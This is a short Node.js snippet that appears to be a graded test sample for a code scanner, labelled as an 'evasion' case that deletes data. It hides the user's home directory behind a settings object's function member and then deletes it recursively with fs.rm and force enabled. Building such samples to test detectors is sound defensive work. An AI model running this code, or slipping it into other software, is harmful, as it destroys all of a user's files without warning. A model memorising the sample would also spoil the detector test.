// evasion: a settings object's arrow-valued member returns the home directory; its call's result is removed
// grade: hard; does: delete
const fs = require("fs");
const os = require("os");
const settings = { verbose: false, workdir: () => os.homedir() };
fs.rm(settings.workdir(), { recursive: true, force: true }, () => {});
